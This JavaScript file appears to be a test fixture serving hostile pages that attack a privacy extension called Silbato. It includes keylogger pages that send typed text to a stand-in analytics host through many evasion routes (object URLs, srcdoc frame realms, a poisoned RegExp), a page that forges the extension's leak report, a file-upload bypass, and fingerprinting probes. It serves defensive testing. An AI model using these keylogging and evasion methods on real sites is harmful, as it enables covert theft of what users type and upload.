// Pages that attack the newest extension changes (issue 18's other realms:
// the group of same-origin watches, the realms wrapped from the page that
// reaches them) as a hostile site would, by someone who had not seen how
// they were made. Served by server.mjs for every path that starts with
// /attack2-; the tests are in attack2.test.mjs.

import { js, sendScript as send } from './uploads.mjs';

const composeBox = `<h1>New post</h1><textarea id="ta" rows="4" cols="60"></textarea><p id="status"></p>`;

/**
 * B1. What a page can observe without any action of the person: each probe
 * counts what the page's own traps saw, or what it printed; the test
 * compares every probe with the same page in Chromium without Silbato.
 */
const observe = (port) => `<script>
  /** A srcdoc frame whose first, empty document the page reaches as window.frames[i] (nothing of Silbato runs there). */
  const firstDocument = () => {
    const f = document.createElement('iframe');
    f.srcdoc = '<p>x</p>';
    f.style.display = 'none';
    document.body.append(f);
    return [f, window.frames[window.frames.length - 1]];
  };
  /** Replace a method of \`proto\` by a counting one for the time of \`run\`. */
  const counting = (proto, name, run) => {
    const d = Object.getOwnPropertyDescriptor(proto, name);
    let n = 0;
    const key = d.get ? 'get' : 'value';
    const orig = d[key];
    Object.defineProperty(proto, name, { ...d, [key]: function () { n++; return orig.apply(this, arguments); } });
    try { run(); } finally { Object.defineProperty(proto, name, d); }
    return n;
  };
  window.observe = () => {
    const out = {};
    const fn = function probe() { return 1; };
    // 1. Function.prototype.toString of an ordinary function, with WeakMap's has and get counted.
    out.toStringWeakMap = counting(WeakMap.prototype, 'has', () => { Function.prototype.toString.call(fn); String(fetch); })
      + counting(WeakMap.prototype, 'get', () => { Function.prototype.toString.call(fetch); });
    // 2. A function whose prototype's toString is a getter (the native toString never reads it).
    {
      let reads = 0;
      const f = function other() {};
      Object.setPrototypeOf(f, Object.create(Function.prototype, { toString: { get() { reads++; return Function.prototype.toString; } } }));
      Function.prototype.toString.call(f);
      out.toStringProtoGetter = reads;
    }
    // 3. A proxy of a function printed: its getPrototypeOf trap.
    {
      let traps = 0;
      const p = new Proxy(function () {}, { getPrototypeOf(t) { traps++; return Reflect.getPrototypeOf(t); } });
      try { out.toStringProxy = [Function.prototype.toString.call(p), traps]; } catch (e) { out.toStringProxy = ['threw', traps]; }
    }
    // 4. A wrapped built-in printed by a realm no Silbato script runs in (a srcdoc frame's first document).
    {
      const [f, w] = firstDocument();
      out.printedElsewhere = [fetch, window.open, document.createElement('div').setAttribute, Function.prototype.toString,
        Object.getOwnPropertyDescriptor(HTMLIFrameElement.prototype, 'contentWindow').get, HTMLElement.prototype.click].map((x) => w.Function.prototype.toString.call(x));
      f.remove();
    }
    // 5. The size of a Map, counted while the page sends nothing anyone typed.
    out.mapSize = counting(Map.prototype, 'size', () => {
      new Image().src = '/px/a.gif';
      fetch('/px/b.gif').catch(() => {});
      navigator.sendBeacon('/px/c.gif', 'x');
    });
    // 6. The array iterator, counted while the page calls ordinary methods.
    out.arrayIterator = counting(Array.prototype, Symbol.iterator, () => {
      document.createElement('div').setAttribute('title', 'x');
      document.createElement('div').addEventListener('x', () => {});
      fetch('/px/d.gif').catch(() => {});
      new MutationObserver(() => {}).observe(document.createElement('div'), { childList: true });
    });
    // 7. The globals of a first, empty document, read once the page takes its frame's contentWindow.
    {
      const [f, w] = firstDocument();
      const reads = [];
      for (const name of ['Error', 'Function', 'Event', 'EventTarget', 'HTMLInputElement', 'HTMLElement', 'Document', 'MouseEvent', 'CustomEvent', 'ShadowRoot', 'XMLHttpRequest', 'Navigator', 'fetch', 'open']) {
        const v = w[name];
        Object.defineProperty(w, name, { get() { reads.push(name); return v; }, configurable: true });
      }
      void f.contentWindow;
      out.firstDocumentGlobals = reads;
      f.remove();
    }
    // 8. A click dispatched on a file input never attached, with no user activation: its getters.
    {
      const reads = [];
      const input = document.createElement('input');
      input.type = 'file';
      const e = new MouseEvent('click', { cancelable: true });
      for (const k of ['clientX', 'clientY', 'screenX', 'screenY', 'ctrlKey', 'shiftKey', 'altKey', 'metaKey']) Object.defineProperty(e, k, { get() { reads.push(k); return 0; } });
      input.dispatchEvent(e);
      out.dispatchGetters = reads;
    }
    // 9. A page that listens for keys and watches the whole document (a would-be recorder) sends: RegExp, split and URL getters counted.
    {
      document.addEventListener('keydown', () => {});
      document.addEventListener('mousemove', () => {});
      new MutationObserver(() => {}).observe(document, { subtree: true, childList: true, attributes: true, characterData: true });
      let n = 0;
      n += counting(RegExp.prototype, 'exec', () => {
        n += counting(String.prototype, 'split', () => {
          for (const k of ['protocol', 'hostname', 'href']) n += counting(URL.prototype, k, () => { fetch('http://127.0.0.1:${port}/px/e.gif').catch(() => {}); });
        });
      });
      out.recorderSends = n;
    }
    // 10. Errors thrown through the frame-element getters and window.open: stack length and the extension named.
    const stack = (f) => { try { f(); return 'no error'; } catch (e) { return { lines: String(e.stack).split('\\n').length, extension: String(e.stack).includes('-extension://') }; } };
    out.stacks = {
      contentWindow: stack(() => Object.getOwnPropertyDescriptor(HTMLIFrameElement.prototype, 'contentWindow').get.call({})),
      contentDocument: stack(() => Object.getOwnPropertyDescriptor(HTMLObjectElement.prototype, 'contentDocument').get.call({})),
      open: stack(() => window.open.call({}, '')),
      fetch: stack(() => fetch.call({}, '/')),
      send: stack(() => XMLHttpRequest.prototype.send.call({})),
      src: stack(() => Object.getOwnPropertyDescriptor(HTMLImageElement.prototype, 'src').set.call({}, '/x')),
    };
    // 10b. The same errors thrown 12 calls deep (the stack keeps Error.stackTraceLimit frames: do Silbato's take some of the page's?).
    const deep = (n, f) => (n ? deep(n - 1, f) : f());
    out.deepStacks = {
      contentWindow: stack(() => deep(12, () => Object.getOwnPropertyDescriptor(HTMLIFrameElement.prototype, 'contentWindow').get.call({}))),
      fetch: stack(() => deep(12, () => fetch.call({}, '/'))),
      setAttribute: stack(() => deep(12, () => document.createElement('div').setAttribute('1bad', 'x'))),
      toString: stack(() => deep(12, () => Function.prototype.toString.call({}))),
    };
    // 12. Getters on Object.prototype (members of event init dictionaries no
    // page object here has), while the page attaches a closed shadow root and
    // clicks a file input never attached, without user activation.
    {
      const reads = [];
      const names = ['detail', 'bubbles', 'composed', 'view', 'screenX'];
      for (const k of names) Object.defineProperty(Object.prototype, k, { get() { reads.push(k + ':' + Object.keys(this).join('+')); return undefined; }, configurable: true });
      try {
        document.createElement('div').attachShadow({ mode: 'closed' });
        const input = document.createElement('input');
        input.type = 'file';
        input.click();
      } finally {
        for (const k of names) delete Object.prototype[k];
      }
      out.objectPrototypeGetters = reads;
    }
    // 11. Property shapes of the wrapped getters and of window.open.
    const shape = (o, k) => { const d = Object.getOwnPropertyDescriptor(o, k); return { ...Object.fromEntries(Object.entries(d).map(([a, b]) => [a, typeof b])), name: (d.get || d.value).name, length: (d.get || d.value).length, proto: Object.getPrototypeOf(d.get || d.value) === Function.prototype, own: Object.getOwnPropertyNames(d.get || d.value).join() }; };
    out.shapes = {
      contentWindow: shape(HTMLIFrameElement.prototype, 'contentWindow'),
      contentDocument: shape(HTMLFrameElement.prototype, 'contentDocument'),
      objectDocument: shape(HTMLObjectElement.prototype, 'contentDocument'),
      open: shape(window, 'open'),
    };
    return out;
  };
</script>`;

/**
 * B2. A page's own script sends what is typed to a third party in ways the
 * watch claims to cover (?via=):
 * - plain: fetch with a string address and body (what the watch finds);
 * - objurl: fetch with the address as an object that prints itself (a URL-like object);
 * - stringurl: fetch with the address as a String object;
 * - objbody: fetch with the body as an object that prints itself;
 * - beaconobj: sendBeacon with such a body;
 * - xhrobj: XMLHttpRequest opened with such an address;
 * - crossgetter: a srcdoc frame's first document reached through a frame
 *   element's contentWindow, taken with the contentWindow getter of another
 *   realm the page reached that way (a first document wrapped from the page);
 * - nested: a srcdoc frame made inside a first document the page reached
 *   through contentWindow, reached through that realm's contentWindow;
 * - openfromframe: a popup opened with an address from a first document's
 *   window.open, used before its document arrives;
 * - regexp: a srcdoc frame's first document reached through contentWindow
 *   while the page's RegExp.prototype.exec throws;
 * - crowded (&n=): the box is in a same-origin about:blank frame made after
 *   n hidden same-origin frames, and one more after it; the page sends
 *   with its own fetch.
 */
const keylog = (port, query) => {
  const via = /^(plain|objurl|stringurl|objbody|beaconobj|xhrobj|crossgetter|nested|openfromframe|regexp|crowded)$/.test(query.get('via') || '') ? query.get('via') : 'objurl';
  const dest = `https://www.google-analytics.com:${port}/g/collect`;
  const crowd = Math.min(40, Number(query.get('n')) || 0);
  return `${composeBox}<script>
  (() => {
    const via = ${js(via)};
    const dest = ${js(dest)};
    window.__sent = 0;
    if (via === 'crowded') {
      // The box is in a same-origin frame (as many editors are), made after
      // \`crowd\` hidden same-origin frames, and one more after it.
      const blank = () => { const f = document.createElement('iframe'); f.style.display = 'none'; document.body.append(f); return f; };
      for (let i = 0; i < ${crowd}; i++) blank();
      const x = document.createElement('iframe');
      x.style.cssText = 'width:520px;height:120px';
      document.body.prepend(x);
      const d = x.contentDocument;
      d.body.innerHTML = '<textarea id="ta2" rows="4" cols="50"></textarea>';
      blank();
      d.addEventListener('input', (e) => {
        fetch(dest, { method: 'POST', mode: 'no-cors', body: JSON.stringify({ v: e.target.value }) });
        window.__sent++;
      }, true);
      return;
    }
    const printing = (s) => ({ toString() { return s; } });
    const firstDocument = (parent) => {
      const d = parent || document;
      const f = d.createElement('iframe');
      f.srcdoc = '<p>x</p>';
      f.style.display = 'none';
      d.body.append(f);
      return f;
    };
    /** A frame's contentWindow read while RegExp.prototype.exec throws (Silbato wraps the realm in that moment). */
    const poisoned = (f) => {
      const exec = RegExp.prototype.exec;
      RegExp.prototype.exec = function () { throw new Error('no'); };
      try {
        return f.contentWindow;
      } finally {
        RegExp.prototype.exec = exec;
      }
    };
    let opened = false;
    document.addEventListener('input', (e) => {
      const value = e.target.value;
      const body = JSON.stringify({ v: value });
      if (via === 'plain') fetch(dest, { method: 'POST', mode: 'no-cors', body });
      else if (via === 'objurl') fetch(printing(dest), { method: 'POST', mode: 'no-cors', body });
      else if (via === 'stringurl') fetch(new String(dest), { method: 'POST', mode: 'no-cors', body });
      else if (via === 'objbody') fetch(dest, { method: 'POST', mode: 'no-cors', body: printing(body) });
      else if (via === 'beaconobj') navigator.sendBeacon(dest, printing(body));
      else if (via === 'xhrobj') { const x = new XMLHttpRequest(); x.open('POST', printing(dest)); x.send(body); }
      else if (via === 'crossgetter') {
        const f1 = firstDocument();
        const w1 = f1.contentWindow;
        const f2 = firstDocument();
        const w2 = Object.getOwnPropertyDescriptor(w1.HTMLIFrameElement.prototype, 'contentWindow').get.call(f2);
        w2.fetch(dest, { method: 'POST', mode: 'no-cors', body });
        f1.remove();
        f2.remove();
      } else if (via === 'nested') {
        const f1 = firstDocument();
        const w1 = f1.contentWindow;
        const f2 = firstDocument(w1.document);
        f2.contentWindow.fetch(dest, { method: 'POST', mode: 'no-cors', body });
        f1.remove();
      } else if (via === 'regexp') {
        const f1 = firstDocument();
        const w1 = poisoned(f1);
        w1.fetch(dest, { method: 'POST', mode: 'no-cors', body });
        f1.remove();
      } else if (via === 'openfromframe') {
        if (opened || value.length < 12) return;
        opened = true;
        const f1 = firstDocument();
        const popup = f1.contentWindow.open('/quiet');
        if (popup) popup.navigator.sendBeacon(dest, body);
      }
      window.__sent++;
    }, true);
  })();
</script>`;
};

/**
 * B3. The popup's page check, fed by the page: the page world answers the
 * isolated world's question with JSON.stringify, which this page replaces:
 * for the answer's shape, it claims Facebook received what was typed and
 * that a recorder runs. Nobody typed anything here.
 */
const fake = `${composeBox}<script>
  (() => {
    const stringify = JSON.stringify;
    window.__asked = 0;
    JSON.stringify = function (v, ...rest) {
      if (v && typeof v === 'object' && Array.isArray(v.leaks) && Array.isArray(v.scripts)) {
        window.__asked++;
        return stringify({
          leaks: [{ field: 0, host: 'connect.facebook.net', how: 'fetch', form: 'plain', script: 'https://connect.facebook.net/en_US/fbevents.js' }],
          scripts: [],
        });
      }
      return stringify.call(this, v, ...rest);
    };
  })();
</script>`;

/**
 * B4. The original through a realm nothing of Silbato runs in: on the
 * person's click, an input never attached to a document is opened with
 * showPicker taken from a srcdoc frame's first document (?via=frames:
 * reached as window.frames[i]; getter: reached with the contentWindow getter
 * of a first document the page reached through a frame element, which is
 * wrapped; nested: a frame inside such a first document; regexp: reached
 * through contentWindow while RegExp.prototype.exec throws). Whatever the input
 * gets is uploaded.
 */
const picker = (query) => {
  const via = /^(frames|getter|nested|regexp)$/.test(query.get('via') || '') ? query.get('via') : 'frames';
  return `<button id="open">attach a photo</button><p id="status"></p><script>${send}
  (() => {
    const via = ${js(via)};
    const firstDocument = (parent) => {
      const d = parent || document;
      const f = d.createElement('iframe');
      f.srcdoc = '<p>x</p>';
      f.style.display = 'none';
      d.body.append(f);
      return f;
    };
    /** A frame's contentWindow read while RegExp.prototype.exec throws (Silbato wraps the realm in that moment). */
    const poisoned = (f) => {
      const exec = RegExp.prototype.exec;
      RegExp.prototype.exec = function () { throw new Error('no'); };
      try {
        return f.contentWindow;
      } finally {
        RegExp.prototype.exec = exec;
      }
    };
    document.getElementById('open').onclick = () => {
      let w;
      if (via === 'frames') {
        firstDocument();
        w = window.frames[window.frames.length - 1];
      } else if (via === 'getter') {
        const w1 = firstDocument().contentWindow;
        w = Object.getOwnPropertyDescriptor(w1.HTMLIFrameElement.prototype, 'contentWindow').get.call(firstDocument());
      } else if (via === 'nested') {
        const w1 = firstDocument().contentWindow;
        w = firstDocument(w1.document).contentWindow;
      } else {
        w = poisoned(firstDocument());
      }
      const input = document.createElement('input');
      input.type = 'file';
      input.addEventListener('change', () => { if (input.files.length) send([...input.files], 'change'); });
      try {
        w.HTMLInputElement.prototype.showPicker.call(input);
        document.getElementById('status').textContent = 'asked';
      } catch (e) {
        document.getElementById('status').textContent = 'threw ' + e.name;
      }
    };
  })();
</script>`;
};

/**
 * B5. What a page can observe once the person has typed in one of its
 * fields (the watch compares only then): each probe is compared with the
 * same page, typed into the same way, in Chromium without Silbato.
 */
const typedObserve = `${composeBox}<script>
  window.observe = async () => {
    const out = {};
    // a. The members of a fetch's init object read, in order (a proxy).
    {
      const gets = [];
      const init = new Proxy({ method: 'POST', body: 'a body of some length' }, { get(t, k, r) { if (typeof k === 'string') gets.push(k); return Reflect.get(t, k, r); } });
      fetch('/px/f.gif', init).catch(() => {});
      out.initReads = gets;
    }
    // b. A getter for "then" on strings, while a string body is sent.
    {
      let n = 0;
      Object.defineProperty(String.prototype, 'then', { get() { n++; return undefined; }, configurable: true });
      try { fetch('/px/g.gif', { method: 'POST', body: 'a body of some length' }).catch(() => {}); } finally { delete String.prototype.then; }
      out.stringThen = n;
    }
    // c. Promise.prototype.then, while a Blob body is sent: who calls it, and what it is given.
    {
      const then = Promise.prototype.then;
      const given = [];
      Promise.prototype.then = function (a, b) { given.push(typeof a === 'function' ? Function.prototype.toString.call(a).slice(0, 40) : typeof a); return then.call(this, a, b); };
      try { navigator.sendBeacon('/px/h.gif', new Blob(['a body of some length'])); } finally { Promise.prototype.then = then; }
      out.promiseThen = given;
    }
    // d. The size of a Map, read while sending: whose Map it is.
    {
      const d = Object.getOwnPropertyDescriptor(Map.prototype, 'size');
      const seen = [];
      Object.defineProperty(Map.prototype, 'size', { ...d, get() { const m = this; try { for (const v of Map.prototype.values.call(m)) if (v && Array.isArray(v.values)) seen.push(v.values.length ? 'typed text kept: ' + v.values.length : 'a field'); } catch {} return d.get.call(m); } });
      try { fetch('/px/i.gif').catch(() => {}); } finally { Object.defineProperty(Map.prototype, 'size', d); }
      out.fieldsMap = seen;
    }
    await new Promise((r) => setTimeout(r, 200));
    return out;
  };
</script>`;

/** The page at `path` (one of /attack2-…), or undefined. */
export function attack2Page(path, port, query) {
  if (path === '/attack2-observe') return observe(port);
  if (path === '/attack2-keylog') return keylog(port, query);
  if (path === '/attack2-fake') return fake;
  if (path === '/attack2-picker') return picker(query);
  if (path === '/attack2-typed') return typedObserve;
  return undefined;
}
